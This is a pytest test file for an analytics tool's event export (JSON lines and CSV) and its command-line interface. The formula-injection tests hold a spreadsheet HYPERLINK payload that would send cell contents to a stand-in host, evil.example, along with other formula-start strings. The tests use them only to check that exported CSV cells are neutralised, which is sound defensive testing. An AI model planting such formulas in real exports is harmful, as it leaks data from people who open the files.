"""Export: every raw event with its session attributes, streamed as JSON lines or CSV."""
import csv
import io
import json

import pytest
from conftest import T0, event, pageview, send

from umami_lite import cli
from umami_lite.storage import connection as db
from umami_lite.ops import export

FIREFOX_UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:140.0) Gecko/20100101 Firefox/140.0"


@pytest.fixture
def seeded(app, client, clock, website):
    uuid = website["website_uuid"]
    pageview(client, uuid, url="/a?utm_source=news", referrer="https://www.search.example/q")
    clock.now = T0 + 60_000
    event(client, uuid, "signup", url="/a")
    clock.now = T0 + 120_000
    pageview(client, uuid, url="/b", ip="192.0.2.9", ua=FIREFOX_UA, screen="390x844",
             language="de-DE")
    clock.now = T0 + 86_400_000
    pageview(client, uuid, url="/tomorrow")
    return website


def _export(app, website, fmt, **kwargs):
    conn = db.connect(app.extensions["umami_lite"].database, readonly=True)
    out = io.StringIO()
    try:
        count = export.export(conn, website["website_id"], out, fmt, **kwargs)
    finally:
        conn.close()
    return count, out.getvalue()


def test_jsonl_holds_every_event_with_its_session_in_time_order(app, seeded):
    count, text = _export(app, seeded, "jsonl")
    website, *rows = [json.loads(line) for line in text.splitlines()]
    assert website == {"kind": "website", "website_uuid": seeded["website_uuid"],
                       "name": "Example", "domain": "example.com", "share_id": None,
                       "retention_days": None}
    assert count == len(rows) == 4
    assert [(r["kind"], r["url"]) for r in rows] == [
        ("pageview", "/a?utm_source=news"), ("event", "/a"), ("pageview", "/b"),
        ("pageview", "/tomorrow")]
    first = rows[0]
    conn = db.connect(app.extensions["umami_lite"].database, readonly=True)
    session = dict(conn.execute("SELECT browser, os, device FROM session WHERE session_id = 1")
                   .fetchone())
    conn.close()
    assert first == {**session, **{
        "kind": "pageview", "created_at": "2026-05-28T20:26:40.000Z", "session": 1,
        "visit_id": first["visit_id"], "url": "/a?utm_source=news",
        "referrer": "https://www.search.example/q", "utm_source": "news",
        "session_created_at": "2026-05-28T20:26:40.000Z", "hostname": "example.com",
        "screen": "1920x1080", "language": "en-US"}}
    assert rows[1]["event_type"] == "click" and rows[1]["event_value"] == "signup"
    assert rows[1]["session"] == 1 and rows[2]["session"] == 2
    assert rows[2]["browser"] != first["browser"] and rows[2]["language"] == "de-DE"
    assert "203.0.113.7" not in text and "Mozilla" not in text


def test_range_and_csv(app, seeded):
    count, text = _export(app, seeded, "csv", start=T0 + 60_000, end=T0 + 120_000)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert count == 2
    assert tuple(rows[0]) == export.COLUMNS
    assert [(r["kind"], r["url"], r["event_value"]) for r in rows] == [
        ("event", "/a", "signup"), ("pageview", "/b", "")]


def test_event_data_keeps_its_types(app, client, website):
    r = client.post("/api/collect", json={"type": "event", "payload": {
        "website": website["website_uuid"], "url": "/", "event_name": "buy",
        "event_data": {"sku": "X1", "qty": 2, "gift": True, "on": "2026-01-02",
                       "cart": {"total": 9.5}}}},
        headers={"User-Agent": "Mozilla/5.0 (X11; Linux x86_64) Chrome/156.0.0.0 Safari/537.36"})
    assert r.status_code == 200
    _, text = _export(app, website, "jsonl")
    assert json.loads(text.splitlines()[1])["data"] == {"sku": "X1", "qty": 2.0, "gift": True,
                                        "on": "2026-01-02", "cart.total": 9.5}


def test_cli_export_to_file_and_stdout(app, seeded, tmp_path, capsys):
    path = app.extensions["umami_lite"].database
    out = tmp_path / "x.csv"
    cli.main(["--database", path, "export", "--website", seeded["website_uuid"],
              "--format", "csv", "--output", str(out), "--to", "2026-05-28"])
    assert "exported 3 rows" in capsys.readouterr().err
    assert len(out.read_text().splitlines()) == 4
    cli.main(["--database", path, "export", "--website", str(seeded["website_id"]),
              "--from", str(T0 + 86_400_000)])
    captured = capsys.readouterr()
    website, row = map(json.loads, captured.out.splitlines())
    assert (website["kind"], website["website_uuid"]) == ("website", seeded["website_uuid"])
    assert row["url"] == "/tomorrow"
    assert "\r" not in captured.err  # no progress bar when stderr is not a terminal
    with pytest.raises(SystemExit, match="no website"):
        cli.main(["--database", path, "export", "--website", "999"])
    with pytest.raises(SystemExit, match="not a date"):
        cli.main(["--database", path, "export", "--website", "1", "--from", "yesterday"])


HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click me")'


def formula_dataset(client, uuid):
    """Stores hits whose visitor-chosen strings would run as spreadsheet formulas."""
    pageview(client, uuid, url=HYPERLINK, referrer="+SUM(1,2)", hostname="@evil.example",
             language="-2+3")
    send(client, uuid, url="/title", title=HYPERLINK, tag="\tcmd")
    send(client, uuid, url="/event", name=HYPERLINK, data={"k": "=1"})
    send(client, uuid, url="/quoted", title="'already quoted", tag="\rx")


def test_csv_cells_never_start_a_formula(app, client, website):
    formula_dataset(client, website["website_uuid"])
    count, text = _export(app, website, "csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert count == len(rows) == 4
    cells = [cell for row in rows for cell in row.values()]
    assert [c for c in cells if c.startswith(export.FORMULA_START)] == []
    hyperlink, title, quoted, named = rows  # pageviews before events of the same time
    assert (hyperlink["url"], hyperlink["referrer"], hyperlink["hostname"],
            hyperlink["language"]) == ("'" + HYPERLINK, "'+SUM(1,2)", "'@evil.example", "'-2+3")
    assert (title["page_title"], title["tag"]) == ("'" + HYPERLINK, "'\tcmd")
    assert (quoted["page_title"], quoted["tag"]) == ("''already quoted", "'\rx")
    assert named["event_value"] == "'" + HYPERLINK[:50]  # event names are cut to 50
    _, jsonl = _export(app, website, "jsonl")  # JSON lines hold the values as stored
    assert json.loads(jsonl.splitlines()[1])["url"] == HYPERLINK


def test_cli_csv_export_guards_formulas(app, client, website, tmp_path, capsys):
    formula_dataset(client, website["website_uuid"])
    out = tmp_path / "x.csv"
    cli.main(["--database", app.extensions["umami_lite"].database, "export", "--website",
              website["website_uuid"], "--format", "csv", "--output", str(out)])
    cells = [c for row in csv.reader(io.StringIO(out.read_text())) for c in row]
    assert "'" + HYPERLINK in cells and HYPERLINK not in cells
